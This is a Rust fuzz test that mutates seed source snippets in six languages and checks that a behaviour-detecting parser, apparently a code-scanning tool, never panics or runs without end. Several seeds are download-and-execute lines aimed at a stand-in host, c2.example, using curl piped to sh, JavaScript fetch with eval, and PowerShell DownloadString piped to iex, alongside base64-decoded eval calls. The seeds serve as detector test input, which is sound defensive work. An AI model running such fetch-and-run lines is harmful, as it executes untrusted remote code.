//! Mutated sources of every language: nothing panics, and nothing goes on without end. `LAZARET_FUZZ_SECONDS` makes it longer.

use std::{
    env,
    time::{Duration, Instant},
};

use syntax::{Budget, Language, behaviours};

/// One text of each language that uses what its reader knows.
const SEEDS: &[(Language, &str)] = &[
    (
        Language::Python,
        "import base64 as b, os\nfrom x import y as z\nclass A(B):\n    def run(self, *a, k=1, **kw):\n        for i in range(9):\n            \
         self.x = [chr(ord(c) ^ 3) for c in 'abc' if c]\n        return f'{i!r:>3}{self.x[::-1]}' % (1,)\n\nexec(b.b64decode('cHJpbnQoMSk=').decode())\n\
         try:\n    print >>f, `1`\nexcept E, e:\n    lambda q: (yield)\nwith open('/tmp/x', 'wb') as f:\n    f.write(b'\\x00')\n",
    ),
    (
        Language::JavaScript,
        "const {a, b: [c = 1, ...d]} = process.env; class A extends B { #x = 1; static async *m() { yield* this.#x } }\n\
         label: for (let i = 0, s = ''; i < 9; i++) { s += String.fromCharCode(i ^ 3); if (i > 3) continue label }\n\
         fetch(`https://c2.example/${a?.b}`).then(async (r) => eval(await r.text()));\nswitch (c) { case 1: default: x = /a[/]b/g.test('x') }\n\
         (function(p, q) { while (!![]) { try { q.push(q.shift()) } catch { break } } })(1, ['a', 'b']);\nexport default () => <div {...d}/>;\n",
    ),
    (
        Language::Shell,
        "X=1; for i in a b; do curl -s \"https://c2.example/$i\" | sh; done\ncat <<E > f && chmod +x ./f; ./f &\nE\nif [ -n \"$HOME\" ]; then eval $(echo bHM= | base64 -d); fi\n",
    ),
    (
        Language::Ruby,
        "require 'net/http'\nclass A < B\n  def run(x = 1, *r, k: 2, &b)\n    system(\"ls #{x}\") if ENV['X']\n    eval(Base64.decode64('cHV0cyAx'))\n  end\nend\n%w[a b].each { |i| `#{i}` }\n",
    ),
    (
        Language::Rust,
        "use std::process::Command as C;\nfn main() { let x = C::new(\"sh\").arg(format!(\"{}\", 1)).spawn().unwrap(); match x { _ => {} } }\n",
    ),
    (
        Language::PowerShell,
        "$x = [Convert]::FromBase64String('bHM='); function F($a) { iex ($a -join '') }\nforeach ($i in 1..3) { (New-Object Net.WebClient).DownloadString(\"http://c2.example/$i\") | iex }\n",
    ),
];

/// What mutations put in: the marks that open, close and turn.
const PIECES: &[&str] = &[
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "'",
    "\"",
    "`",
    "\\",
    "\n",
    "\t",
    "\0",
    "\u{feff}",
    "\u{202e}",
    "#",
    "//",
    "/*",
    "*/",
    "<<",
    "${",
    "=>",
    ":",
    ";",
    "9999999999999999999",
    "-1",
    "<<99",
    "**9",
    "[::-1]",
    "[-9:9:-3]",
    "lambda:",
    "if ",
    "else",
    "def ",
    "class ",
    "await ",
    "\u{1f600}",
    "é",
    "=",
];

struct Random(u64);

impl Random {
    fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % most.max(1) as u64) as usize
    }
}

#[test]
fn mutated_sources_never_panic() {
    let seconds = env::var("LAZARET_FUZZ_SECONDS").ok().and_then(|seconds| seconds.parse().ok());
    let work = move || {
        let mut random = Random(0x9e37_79b9_7f4a_7c15);
        let start = Instant::now();
        let mut round = 0;
        while seconds.map_or(round < 400, |seconds| start.elapsed() < Duration::from_secs(seconds)) {
            let (language, seed) = SEEDS[round % SEEDS.len()];
            let text = mutate(seed, &mut random);
            let budget = Budget { careful: round % 5 == 0, steps: 200_000, ..Budget::default() };
            let parsed = behaviours(language, "file", &text, budget);
            for behaviour in &parsed.value.behaviours {
                assert!(behaviour.place.line >= 1, "{text:?}");
            }
            round += 1;
        }
    };
    std::thread::Builder::new().stack_size(512 << 20).spawn(work).expect("a thread").join().expect("no panic");
}

fn mutate(seed: &str, random: &mut Random) -> String {
    let mut text: Vec<char> = seed.chars().collect();
    for _ in 0..1 + random.below(8) {
        let at = random.below(text.len());
        match random.below(4) {
            0 => {
                let end = (at + random.below(24)).min(text.len());
                text.drain(at..end);
            }
            1 => {
                let end = (at + random.below(64)).min(text.len());
                let copy: Vec<char> = text[at..end].to_vec();
                let to = random.below(text.len());
                text.splice(to..to, copy);
            }
            2 => {
                let piece = PIECES[random.below(PIECES.len())].repeat(1 + random.below(40));
                text.splice(at..at, piece.chars());
            }
            _ => {
                if let Some(one) = text.get_mut(at) {
                    *one = char::from(random.below(127) as u8);
                }
            }
        }
    }
    text.into_iter().collect()
}
